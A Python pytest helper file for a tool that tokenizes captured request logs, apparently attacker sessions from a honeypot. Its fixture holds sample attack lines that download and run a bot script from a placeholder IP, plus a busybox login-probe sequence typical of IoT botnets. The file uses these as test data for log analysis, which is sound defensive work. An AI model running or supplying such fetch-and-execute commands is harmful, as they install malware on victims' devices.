from datetime import datetime, timezone

import pytest

from llt.corpus import RequestLog
from llt.tokenizer import Token, tokenize


def toks(*texts: str) -> list[Token]:
    """Token sequence from pre-split token strings (classes derived)."""
    out = []
    for text in texts:
        raw = text.encode("latin-1")
        pieces = tokenize(raw)
        if len(pieces) != 1:
            raise ValueError(f"{text!r} is not a single-class token")
        out.append(pieces[0])
    return out


def make_log(raw: bytes, host: str = "198.51.100.7", minute: int = 0) -> RequestLog:
    return RequestLog.make(
        raw=raw,
        source_host=host,
        captured_at=datetime(2021, 1, 1, 0, minute, tzinfo=timezone.utc),
    )


@pytest.fixture
def sample_corpus_raws() -> list[bytes]:
    return [
        b"cd /tmp\nwget http://203.0.113.5/bot.sh\nsh bot.sh\n",
        b"cd /var/tmp\nwget http://203.0.113.5/bot.sh\nsh bot.sh\n",
        b"enable\nsystem\nshell\nsh\n/bin/busybox cat /bin/echo\n",
    ]
